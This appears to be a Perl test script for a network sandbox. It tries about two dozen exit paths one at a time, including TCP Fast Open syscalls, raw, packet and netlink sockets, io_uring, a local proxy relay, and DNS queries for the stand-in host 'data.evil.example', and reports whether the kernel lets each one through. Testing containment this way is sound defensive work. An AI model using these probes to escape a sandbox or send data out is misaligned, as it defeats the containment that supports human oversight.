# Tries one way out of a network: perl ways.pl WAY ADDRESS ADDRESS6. It exits 0 and says
# OUT where the kernel lets it pass; otherwise it exits 1 with the error.
use strict; use warnings; no warnings 'once';
use Socket qw(:DEFAULT inet_pton pack_sockaddr_in6);
my ($way, $ip, $ip6) = @ARGV;
my $arm = `uname -m` =~ /aarch64/;
my $nr = $arm ? { sendmsg => 211, sendmmsg => 269 } : { sendmsg => 46, sendmmsg => 307 };
my $fast_open = 0x20000000; # MSG_FASTOPEN

sub fail { die "$_[0]: $!\n" }
sub sock { socket(my $s, $_[0], $_[1], $_[2]) or fail('socket'); $s }
sub to { pack_sockaddr_in($_[0], inet_aton($ip)) }
sub reach { my $s = sock(2, 1, $_[1]); connect($s, to($_[0])) or fail('connect'); $s }
# struct msghdr of an address and one byte, 64 bit
our ($to, $byte, $vector);
sub message { ($to, $byte) = (to(443), 'x'); $vector = pack('P Q', $byte, 1); pack('P L x4 P Q Q Q l x4', $to, 16, $vector, 1, 0, 0, 0) }

my %ways = (
	tcp => sub { reach(443, 0) },
	proxyport => sub { reach(3128, 0) },
	tcp6 => sub { my $s = sock(10, 1, 0); connect($s, pack_sockaddr_in6(443, inet_pton(10, $ip6))) or fail('connect') },
	mptcp => sub { reach(443, 262) },
	sctp => sub { reach(443, 132) },
	fastopen_sendto => sub { send(sock(2, 1, 0), 'x', $fast_open, to(443)) // fail('sendto') },
	fastopen_sendmsg => sub { my $s = sock(2, 1, 0); my $m = message(); syscall($nr->{sendmsg}, fileno($s), $m, $fast_open) == 1 or fail('sendmsg') },
	fastopen_sendmmsg => sub {
		my $s = sock(2, 1, 0); my $m = message() . pack('L x4', 0);
		syscall($nr->{sendmmsg}, fileno($s), $m, 1, $fast_open) == 1 or fail('sendmmsg');
	},
	fastopen_option => sub {
		my $s = sock(2, 1, 0); setsockopt($s, 6, 30, pack('i', 1)) or fail('setsockopt'); # TCP_FASTOPEN_CONNECT
		connect($s, to(443)) or fail('connect'); syswrite($s, 'x') or fail('write');
	},
	udp => sub { send(sock(2, 2, 0), 'x', 0, to(5353)) // fail('sendto') },
	udp6 => sub { send(sock(10, 2, 0), 'x', 0, pack_sockaddr_in6(5353, inet_pton(10, $ip6))) // fail('sendto') },
	ping => sub { my $s = sock(2, 2, 1); send($s, pack('C2 n3', 8, 0, 0xf7ff, 0, 0), 0, to(0)) // fail('sendto') },
	raw => sub { my $s = sock(2, 3, 1); send($s, pack('C2 n3', 8, 0, 0xf7ff, 0, 0), 0, to(0)) // fail('sendto') },
	packet => sub { sock(17, 3, 0) },
	vsock => sub { sock(40, 1, 0) },
	bluetooth => sub { sock(31, 3, 1) },
	netlink_events => sub { sock(16, 3, 15) },
	# RTM_NEWADDR of 10.9.9.9/32 on the interface 1
	netlink_address => sub {
		my $s = sock(16, 3, 0); my $body = pack('C4 l', 2, 32, 0, 0, 1) . pack('S2', 8, 2) . inet_aton('10.9.9.9');
		send($s, pack('L S2 L2', 16 + length $body, 20, 0x705, 1, 0) . $body, 0, pack('S2 L2', 16, 0, 0, 0)) // fail('sendto');
		sysread($s, my $answer, 4096) or fail('read'); $! = -unpack('x16 l', $answer); $! == 0 or fail('netlink');
	},
	io_uring => sub { my $parameters = "\0" x 120; syscall(425, 8, $parameters) >= 0 or fail('io_uring_setup') },
	abstract => sub { my $s = sock(1, 1, 0); connect($s, pack('S a*', 1, "\0sallyport-way")) or fail('connect') },
	dns => sub { gethostbyname('data.evil.example') or do { $! = 0; fail('no such name') } },
	dns_packet => sub {
		my $s = sock(2, 2, 0); connect($s, pack_sockaddr_in(53, inet_aton('127.0.0.1'))) or fail('connect');
		send($s, pack('n6 C/a C/a C/a C n2', 1, 0x100, 1, 0, 0, 0, 'data', 'evil', 'example', 0, 1, 1), 0) // fail('send');
		local $SIG{ALRM} = sub { die "no answer\n" }; alarm 3; sysread($s, my $answer, 512) or fail('read');
	},
	# A proxy of its own in front of the proxy: what is asked for decides, not who relays it.
	relay => sub {
		socket(my $l, 2, 1, 0); setsockopt($l, 1, 2, pack('i', 1)); bind($l, pack_sockaddr_in(8081, INADDR_LOOPBACK)) && listen($l, 1) or fail('listen');
		if (!fork) {
			accept(my $c, $l); sysread($c, my $head, 4096); my $up = sock(2, 1, 0);
			connect($up, pack_sockaddr_in(3128, INADDR_LOOPBACK)) or exit 1; syswrite($up, $head); sysread($up, my $answer, 4096); syswrite($c, $answer); exit 0;
		}
		my $s = sock(2, 1, 0); connect($s, pack_sockaddr_in(8081, INADDR_LOOPBACK)) or fail('connect');
		syswrite($s, "CONNECT $ip:443 HTTP/1.1\r\n\r\n"); sysread($s, my $answer, 4096); $answer =~ m{^HTTP/1.1 200} or die $answer;
	},
);
if ($way eq 'all') { print "$_\n" for sort keys %ways; exit }
alarm 10;
$ways{$way}->();
print "OUT\n";
